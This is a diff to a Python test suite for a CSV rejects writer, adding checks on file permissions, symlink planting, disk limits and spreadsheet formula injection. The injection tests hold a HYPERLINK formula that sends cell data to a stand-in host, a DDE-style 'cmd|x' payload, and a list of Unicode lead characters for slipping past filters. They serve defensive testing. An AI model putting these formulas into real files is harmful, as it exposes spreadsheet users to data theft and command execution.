@@ -3,6 +3,7 @@
 import csv
 import os
 import random
+import resource
 import subprocess
 from pathlib import Path
 
@@ -11,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from loader.errors import AircanError, RejectsNotWritten, TooManyBadRows, UsageError
-from loader.rejects import Rejects, remove_leftovers, remove_stale
+from loader.rejects import Rejects, as_text, check_place, remove_leftovers, remove_stale
 from loader.table import Reject
 
 
@@ -107,25 +108,113 @@ def test_an_older_file_is_replaced_only_when_the_new_one_is_whole(path):
     assert len(written(path)) == 2
 
 
-# What stands in the way: the path below the folder, what it says.
+# What stands in the way: the path below the folder; what it says at the first row; and what when
+# somebody names that place.
+NO_FOLDER, IS_FOLDER = "there is no such folder", "it is a folder"
 OBSTACLES = {
-    "no folder": ("nowhere/x.csv", "No such file or directory"),
-    "a file as its folder": ("file/x.csv", "Not a directory"),
-    "a folder in its place": ("folder", "it is a folder"),
-    "the folder itself": (".", "it is a folder"),
-    "a name too long": ("x" * 300, "File name too long"),
-    "a folder that takes no file": ("/proc/x.csv", "No such file or directory"),
+    "no folder": ("nowhere/x.csv", "No such file or directory", NO_FOLDER),
+    "a file as its folder": ("file/x.csv", "Not a directory", NO_FOLDER),
+    "a folder in its place": ("folder", IS_FOLDER, IS_FOLDER),
+    "the folder itself": (".", IS_FOLDER, IS_FOLDER),
+    "a name too long": ("x" * 300, "File name too long", "File name too long"),
+    "a NUL": ("a\0b", "ValueError", None),
+    "a folder that takes no file": ("/proc/x.csv", "No such file or directory", None),
 }
 
 
-@pytest.mark.parametrize(("name", "words"), OBSTACLES.values(), ids=OBSTACLES)
-def test_a_place_that_cannot_be_written_is_wrong_usage_before_there_are_any(tmp_path, name, words):
+@pytest.mark.parametrize(("name", "at_a_row", "named"), OBSTACLES.values(), ids=OBSTACLES)
+def test_a_place_that_cannot_be_written_matters_at_the_first_row(tmp_path, name, at_a_row, named):
     (tmp_path / "folder").mkdir()
     (tmp_path / "file").touch()
-    with pytest.raises(UsageError, match=words) as refused, Rejects(tmp_path / name, 3):
-        pass
-    assert str(tmp_path / name) in str(refused.value)
+    path = tmp_path / name
+    with Rejects(path, 3) as rejects:
+        rejects.add(0, [])
+        with pytest.raises(RejectsNotWritten, match=at_a_row) as refused:
+            rejects.add(1, [a_reject(1)])
     assert "--rejects" in (refused.value.hint or "")
+    assert {file.name for file in tmp_path.iterdir()} == {"folder", "file"}
+    if named is None:
+        check_place(path)
+        return
+    with pytest.raises(UsageError, match=named) as wrong:
+        check_place(path)
+    assert "--rejects" in (wrong.value.hint or "")
+    assert str(path) in str(wrong.value)
+
+
+def test_without_a_place_they_are_counted(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    with Rejects(None, 3) as rejects:
+        rejects.add(0, [a_reject(1), a_reject(2)])
+        assert (rejects.count, [reject.row for reject in rejects.first]) == (2, [1, 2])
+        with pytest.raises(TooManyBadRows) as refused:
+            rejects.add(1, [a_reject(3), a_reject(4)])
+        rejects.discard()
+    assert "see" not in (refused.value.hint or "")
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("mask", [0o000, 0o022, 0o077])
+def test_only_its_owner_may_read_it(path, mask):
+    path.touch(0o666)
+    before = os.umask(mask)
+    try:
+        with Rejects(path, 3) as rejects:
+            rejects.add(0, [a_reject(1)])
+            (partial,) = path.parent.glob("*.part")
+            assert partial.stat().st_mode & 0o777 == 0o600
+    finally:
+        os.umask(before)
+    assert path.stat().st_mode & 0o777 == 0o600
+
+
+def test_what_lies_where_it_is_written_is_not_written_through(path):
+    """In a folder of everybody's, a stranger may have put a link there."""
+    other = path.with_name("other")
+    other.write_text("mine")
+    path.with_name(f"{path.name}.{os.getpid()}.part").symlink_to(other)
+    with Rejects(path, 3) as rejects:
+        rejects.add(0, [a_reject(1)])
+    assert other.read_text() == "mine"
+    assert len(written(path)) == 2
+
+
+# What a spreadsheet would take for a formula: by what it begins with, and what stands before it.
+SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62"]
+BEFORE = ["", " ", "\u00a0", '"', "'", '" "', "\ufeff", "\u200b", "\u202e", "\x01", "\t", "\r"]
+
+
+@pytest.mark.parametrize("sign", SIGNS)
+@pytest.mark.parametrize("before", BEFORE)
+def test_a_cell_that_would_be_a_formula_is_text(path, sign, before):
+    formula = f'{before}{sign}HYPERLINK("http://example.org?"&A1,"x"),b,c,d'
+    with Rejects(path, 9) as rejects:
+        rejects.add(0, [Reject(7, f"{sign}1", formula)])
+    (_, row) = written(path)
+    assert row == ["7", f"'{sign}1", f"'{formula}"]
+
+
+@pytest.mark.parametrize("sign", SIGNS)
+@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
+@pytest.mark.parametrize("before", ["", " ", '"'])
+def test_so_is_one_after_the_separator_of_another_country(sign, separator, before):
+    """A semicolon separates in Excel where the comma is a decimal sign, whatever the file says."""
+    assert as_text(f"1{separator}{before}{sign}cmd|x") == f"1{separator}'{before}{sign}cmd|x"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "a", "a=b", "1-2", "a,-5", "x;-5;+3,5;-1.000", "a@b.example", "x;-5\ty", "'a", "3+4"],
+)
+def test_what_is_no_formula_is_left_as_it_is(text):
+    assert as_text(text) == text
+
+
+@given(st.text(), st.sampled_from(SIGNS))
+def test_no_cell_begins_with_a_sign(text, sign):
+    for cell in (text, sign + text):
+        assert as_text(cell)[:1] not in (*SIGNS, "\t", "\r", "\n")
+        assert as_text(cell).replace("'", "") == cell.replace("'", "")
 
 
 def lose_the_place(rejects: Rejects, error: AircanError | None = None) -> None:
@@ -150,14 +239,19 @@ def test_a_file_that_cannot_be_finished_does_not_hide_why_the_load_failed(path):
 
 
 def fill_the_disk(path: Path, size: int) -> None:
-    with Rejects(path, 9) as rejects:
-        rejects._partial.symlink_to("/dev/full")
-        rejects.add(0, [Reject(1, "why", "x" * size)])
+    """Write where there is room for 8 bytes; Python ignores the signal that would end it."""
+    before = resource.getrlimit(resource.RLIMIT_FSIZE)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (8, before[1]))
+    try:
+        with Rejects(path, 9) as rejects:
+            rejects.add(0, [Reject(1, "why", "x" * size)])
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, before)
 
 
 @pytest.mark.parametrize("size", [10, 10**6], ids=["when it is finished", "while it is written"])
 def test_a_full_disk_is_told_as_such(path, size):
-    with pytest.raises(RejectsNotWritten, match="No space left on device"):
+    with pytest.raises(RejectsNotWritten, match="File too large"):
         fill_the_disk(path, size)
     assert files(path) == []
 
@@ -170,11 +264,40 @@ def test_the_rejects_of_an_earlier_load_are_removed(path):
     remove_stale(path)
 
 
-@pytest.mark.parametrize("content", [b"", b"my,own\n", b"\xff\xfe"], ids=["", "rows", "no text"])
+# What somebody may have under that name.
+FOREIGN = {
+    "nothing": b"",
+    "rows": b"my,own\n",
+    "no text": b"\xff\xfe",
+    "the same header": b"row,reason,raw\n",
+    "the same header over rows": b"row,reason,raw\nred,blue,green\n",
+    "one column more": b"row,reason,raw\n1,2,3,4\n",
+    "one row that no reader takes": b'row,reason,raw\n"' + b"x" * 200_000,
+}
+
+
+@pytest.mark.parametrize("content", FOREIGN.values(), ids=FOREIGN)
 def test_a_file_that_holds_no_rejects_is_not_removed(path, content):
     path.write_bytes(content)
     remove_stale(path)
     assert path.read_bytes() == content
+
+
+def test_neither_a_link_nor_somebody_elses_file_nor_a_folder_is_removed(path):
+    ours = path.with_name("ours.csv")
+    with Rejects(ours, 3) as rejects:
+        rejects.add(0, [a_reject(1)])
+    path.symlink_to(ours)
+    remove_stale(path)
+    assert path.is_symlink()
+    path.unlink()
+    path.mkdir()
+    remove_stale(path)
+    assert path.is_dir()
+    if os.geteuid() == 0:
+        os.chown(ours, 65534, 65534)
+        remove_stale(ours)
+        assert ours.exists()
 
 
 def test_what_a_killed_load_left_is_removed_and_nothing_else(path):
@@ -200,4 +323,6 @@ def test_any_raw_text_comes_back(tmp_path_factory, raws):
     path = tmp_path_factory.mktemp("rejects") / "x.csv"
     with Rejects(path, 10) as rejects:
         rejects.add(0, [Reject(i, "why", raw) for i, raw in enumerate(raws)])
-    assert (written(path)[1:] if raws else []) == [[str(i), "why", r] for i, r in enumerate(raws)]
+    assert (written(path)[1:] if raws else []) == [
+        [str(i), "why", as_text(r)] for i, r in enumerate(raws)
+    ]
